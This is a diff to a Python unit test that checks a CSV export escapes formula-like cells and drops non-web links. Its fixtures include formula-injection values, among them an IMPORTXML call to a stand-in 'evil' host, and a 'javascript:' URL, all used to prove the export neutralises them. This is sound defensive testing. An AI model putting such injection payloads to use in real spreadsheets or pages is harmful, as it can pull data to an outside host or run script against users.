@@ -146,12 +146,21 @@ def test_the_export_keeps_cells_from_running_as_formulas_and_says_which_levels_w
     record = CaseRecord(
         7, arrived, "care", "standard", "=HYPERLINK(1)", "x", "closed", "+maria", 250_000,
         arrived + timedelta(minutes=90), None, None, arrived + timedelta(minutes=95),
+        author_handle="@ann.bsky.social", url="https://bsky.app/profile/ann.bsky.social/post/3k",
+        text='=IMPORTXML("http://evil", "//a")\nand a second line',
     )  # fmt: skip
-    data, count = export_csv([record], lambda queue: (DEFAULT_POLICIES, ALWAYS), arrived + timedelta(days=1))
-    [header, row] = list(csv.reader(io.StringIO(data.decode())))
-    assert count == 1 and tuple(header) == COLUMNS
+    hostile = replace(record, complaint_id=8, url="javascript:alert(1)", source="intake", text="-2+3")
+    rules = lambda queue: (DEFAULT_POLICIES, ALWAYS)  # noqa: E731
+    data, count = export_csv([record, hostile], rules, arrived + timedelta(days=1), {"x": "X"})
+    [header, row, other] = list(csv.reader(io.StringIO(data.decode())))
+    assert count == 2 and tuple(header) == COLUMNS
     values = dict(zip(header, row, strict=True))
     assert values["topic"] == "'=HYPERLINK(1)" and values["owner"] == "'+maria"
+    assert (values["handle"], values["network"]) == ("ann.bsky.social", "X")
+    assert values["post_link"] == "https://bsky.app/profile/ann.bsky.social/post/3k"
+    assert values["text"] == '\'=IMPORTXML("http://evil", "//a")\nand a second line'  # one cell, never a formula
+    shown = dict(zip(header, other, strict=True))  # a link that is not a web address is left out
+    assert (shown["post_link"], shown["network"], shown["text"]) == ("", "intake", "'-2+3")
     assert values["follower_band"] == "100k+" and values["seconds_to_claim"] == "5400"
     assert (values["claim_level"], values["acknowledge_level"]) == ("missed", "")  # closed unacknowledged: not due
     assert ExportAsked(parse_period("7d", T0, "UTC"), "elite").filename == "squeaky-cases-elite-20261115-20261122.csv"
